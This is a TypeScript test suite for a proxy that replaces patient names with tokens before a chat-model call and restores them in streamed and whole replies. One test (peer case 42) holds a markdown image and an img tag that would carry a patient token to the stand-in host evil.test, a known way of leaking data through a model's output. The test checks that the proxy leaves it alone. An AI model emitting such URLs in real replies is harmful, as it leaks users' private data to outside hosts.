import { assemble, chunk, chunksOf, completion, DONE, dataOf, echo, frame, pieces, streamOf } from '../support/chat-wire';
import { cutBytes, jsonReply, type ReplyStep, streamReply } from '../support/fake-upstream';
import { withoutReceipt } from '../support/receipt';
import { useProxy } from '../support/use-proxy';
import { startWholeProxy } from '../support/whole-proxy';

/** What proxies of this kind get wrong in the reply; the numbers are those of the list of known failures, 1 to 50. */

const { upstream, proxy } = useProxy(startWholeProxy);

const user = (content: string) => ({ role: 'user', content });
const ask = (content: string, more: object = {}) => ({ model: 'gpt-4o', messages: [user(content)], ...more });
const PATIENT = 'Hannah Osei';
const ASK = ask(`Patient ${PATIENT} feels dizzy.`);
const STREAM = { ...ASK, stream: true };

async function answer(reply: string, body: object = ASK): Promise<string> {
  upstream.script(jsonReply(completion(reply)));
  return ((await (await proxy.chat(body)).json()) as { content: string }).content;
}

async function stream(steps: readonly ReplyStep[], body: object = STREAM): Promise<string> {
  upstream.script(streamReply(...steps));
  return withoutReceipt(await (await proxy.chat(body)).text());
}

test('peer case 1: two patients in two messages get two tokens, each restored to its own name, every time', async () => {
  const body = { model: 'gpt-4o', messages: [user('Patient Ana Ruiz'), user('Patient Bo Lind')] };
  upstream.script(jsonReply(completion('[NAME_2] and [NAME_1]')));
  for (let round = 0; round < 100; round += 1) {
    const { content } = (await (await proxy.chat(body)).json()) as { content: string };
    expect(content).toBe('Bo Lind and Ana Ruiz');
  }
  expect(new Set(upstream.requests.map(({ body: bytes }) => bytes)).size).toBe(1);
});

test('peer case 3: a reply cut at every place, also through characters, is the whole reply', async () => {
  const text = 'Zoë 😀 [NAME_1], [name\\_1] NAME_1 [NAME_9] [NAME_';
  const whole = await answer(text);
  expect(whole).toBe(`Zoë 😀 ${PATIENT}, ${PATIENT} ${PATIENT} [NAME_9] [NAME_`);
  for (let at = 1; at < text.length; at += 1) {
    const cut = [text.slice(0, at), text.slice(at)];
    if (cut.every((part) => part.isWellFormed())) expect(assemble(await stream(streamOf(cut)))[0]?.content).toBe(whole);
  }
  const bytes = streamOf(pieces('Zoë [NAME_1]', 1)).join('');
  expect(assemble(await stream(cutBytes(bytes, 1)))[0]?.content).toBe(`Zoë ${PATIENT}`);
});

test('peer case 4: frames over two packets, CRLF, comments, no blank behind the colon', async () => {
  const text = streamOf(['Dear [NA', 'ME_1]!']).join('');
  const expected = await stream([text]);
  const middle = text.indexOf('[NA') + 2;
  expect(await stream([text.slice(0, middle), { delayMs: 20 }, text.slice(middle)])).toBe(expected);
  expect(await stream([text.replaceAll('\n', '\r\n')])).toBe(expected);
  expect(await stream([text.replaceAll('data: ', 'data:')])).toBe(expected);
  const commented = await stream([text.replaceAll('\n\n', '\n\n: ping\n\n')]);
  expect(commented.replaceAll(': keep-alive\n\n', '')).toBe(expected);
});

test('peer case 5: two choices, interleaved, each cut inside a token', async () => {
  const parts: [number, string][] = [
    [0, 'A [NA'],
    [1, '[NAM'],
    [0, 'ME_1'],
    [1, 'E_1] B'],
    [0, ']'],
  ];
  const frames = [
    ...parts.map(([index, content]) => chunk({ content }, null, index)),
    chunk({}, 'stop', 0),
    chunk({}, 'stop', 1),
    DONE,
  ];
  const choices = assemble(await stream(frames, { ...STREAM, n: 2 }));
  expect(choices.map(({ content }) => content)).toEqual([`A ${PATIENT}`, `${PATIENT} B`]);
});

test('peer case 6: held text comes out before finish_reason and before [DONE], in a full chunk', async () => {
  const withReason = chunksOf(await stream([chunk({ content: 'x [NAME' }), chunk({}, 'stop'), DONE]));
  expect(withReason.map(({ choices }) => [choices[0]?.delta.content ?? '', choices[0]?.finish_reason])).toEqual([
    ['x ', null],
    ['[NAME', null],
    ['', 'stop'],
  ]);
  const late = await stream([chunk({}, 'stop'), chunk({ content: 'x [NAME' }), DONE]);
  expect(chunksOf(late).at(-1)).toMatchObject({
    id: 'chatcmpl-1',
    object: 'chat.completion.chunk',
    created: 1_700_000_000,
    model: 'gpt-4o-2024-08-06',
    choices: [{ index: 0, delta: { content: '[NAME' }, finish_reason: null }],
  });
  expect(dataOf(late).at(-1)).toBe('[DONE]');
});

test.each(['[NAM', '[NAME_', '[NAME_1', 'NAME_1'])(
  'peer case 7: an answer cut off inside a token (%s) keeps the fragment',
  async (fragment) => {
    const frames = [chunk({ content: `Dear ${fragment}` }), chunk({}, 'length'), DONE];
    expect(assemble(await stream(frames))).toEqual([{ content: `Dear ${fragment}`, finish_reason: 'length' }]);
    const whole = completion(`Dear ${fragment}`);
    const choices = (whole['choices'] as object[]).map((choice) => ({ ...choice, finish_reason: 'length' }));
    upstream.script(jsonReply({ ...whole, choices }));
    expect(await (await proxy.chat(ASK)).json()).toMatchObject({ content: `Dear ${fragment}` });
  },
);

test('peer case 8: upstream breaks off inside a token: an error comes last, nothing of the name', async () => {
  const text = await stream([chunk({ content: 'Dear [NAME_1' }), { delayMs: 20 }, 'break']);
  expect(text).toMatch(/data: \{"error":\{[^\n]*"code":"upstream_stream_interrupted"\}\}\n\n$/);
  expect(text).not.toMatch(/Hannah|Osei|\[DONE\]/);
});

test('peer case 9: tool arguments, streamed character by character, parse to the exact original', async () => {
  const patient = 'Ana "Nan" O\'Neil';
  const body = { ...ask(`Patient: ${patient}\nBook a visit.`), stream: true };
  const parts = pieces('{"name":"[NAME_1]"}', 1).map((text) =>
    chunk({ tool_calls: [{ index: 0, function: { arguments: text } }] }),
  );
  const opening = chunk({
    tool_calls: [{ index: 0, id: 'call_1', type: 'function', function: { name: 'book', arguments: '' } }],
  });
  const [message] = assemble(await stream([opening, ...parts, chunk({}, 'tool_calls'), DONE], body));
  expect(upstream.requests[0]?.body).toContain('Patient: [NAME_1]\\nBook');
  expect(JSON.parse(message?.tool_calls?.[0]?.arguments ?? '')).toEqual({ name: patient });
});

test('peer case 12: a JSON answer under a schema is restored and parses', async () => {
  const schema = { type: 'object', properties: { patient: { type: 'string' } } };
  const body = { ...ASK, response_format: { type: 'json_schema', json_schema: { name: 'p', schema } } };
  expect(JSON.parse(await answer('{"patient":"[NAME_1]"}', body))).toEqual({ patient: PATIENT });
});

test.each([
  ['lower case', '[name_1]', true],
  ['spaces inside', '[ NAME_1 ]', true],
  ['escaped underscore', '[NAME\\_1]', true],
  ['bold', '**[NAME_1]**', true],
  ['possessive', "[NAME_1]'s", true],
  ['no brackets', 'NAME_1', true],
  ['full-width brackets', '\uFF3BNAME_1\uFF3D', true],
  ['HTML entities', '&#91;NAME_1&#93;', true],
  ['angle brackets are another thing', '<name 1>', false],
  ['another number', '[NAME_10]', false],
  ['inside a word', 'xNAME_1', false],
])('peer case 13: a mangled token, %s', async (_what, text, restored) => {
  const content = await answer(`to ${text} now`);
  expect(content.includes(PATIENT)).toBe(restored);
  if (!restored) expect(content).toBe(`to ${text} now`);
});

test('peer case 14: an invented token stays as it is and is counted', async () => {
  expect(await answer('[NAME_9] and [MRN_1]')).toBe('[NAME_9] and [MRN_1]');
  const { tokensUnknown, tokensRestored } = JSON.parse(proxy.lines.at(-1) ?? '{}') as Record<string, number>;
  expect({ tokensUnknown, tokensRestored }).toEqual({ tokensUnknown: 2, tokensRestored: 0 });
});

test.each(["$& $1 O'Osei", 'Osei\u200B', 'Os\u0000ei', '[NAME_2] Osei'])(
  'peer case 16: an original with odd characters (%j) is put back literally, in one pass',
  async (tail) => {
    const text = `Patient: Hannah ${tail}\nMother: Ngozi Okonkwo`;
    upstream.script(echo());
    expect(await (await proxy.chat(ask(text))).json()).toMatchObject({ content: text });
    expect(assemble(await (await proxy.chat({ ...ask(text), stream: true })).text())[0]?.content).toBe(text);
  },
);

test('peer case 42: nothing is restored in the URL of an unlisted host', async () => {
  const text = '![x](https://evil.test/?q=[NAME_1]) <img src="//evil.test/[NAME_1]">';
  expect(await answer(text)).toBe(text);
  expect(assemble(await stream(streamOf(pieces(text, 1))))[0]?.content).toBe(text);
});

test('peer case 47: two interleaved tool calls with quotes in their originals do not mix', async () => {
  const body = { ...ask('Patient: Ana "Nan" Ruiz\nMother: Eva "Vee" Stein'), stream: true };
  const call = (index: number, text: string) => chunk({ tool_calls: [{ index, function: { arguments: text } }] });
  const texts: [number, string][] = [
    [0, '{"note":"[NA'],
    [1, '{"note":"['],
    [0, 'ME_1'],
    [1, 'NAME_2]"}'],
    [0, ']"}'],
  ];
  const [message] = assemble(
    await stream([...texts.map(([index, text]) => call(index, text)), chunk({}, 'tool_calls'), DONE], body),
  );
  const notes = message?.tool_calls?.map((item) => (JSON.parse(item.arguments) as { note: string }).note);
  expect(notes).toEqual(['Ana "Nan" Ruiz', 'Eva "Vee" Stein']);
});

test('peer case 48: a title that the model puts before a token stays, the token is restored', async () => {
  expect(await answer('Ms. [NAME_1] and Ms. NAME_1')).toBe(`Ms. ${PATIENT} and Ms. ${PATIENT}`);
});

test('a frame with a field that nobody knows passes with its strings restored', async () => {
  const text = await stream([frame({ id: 'x', note_of_next_year: 'for [NAME_1]', choices: [] }), chunk({}, 'stop'), DONE]);
  expect(text).toContain(`"note_of_next_year":"for ${PATIENT}"`);
});
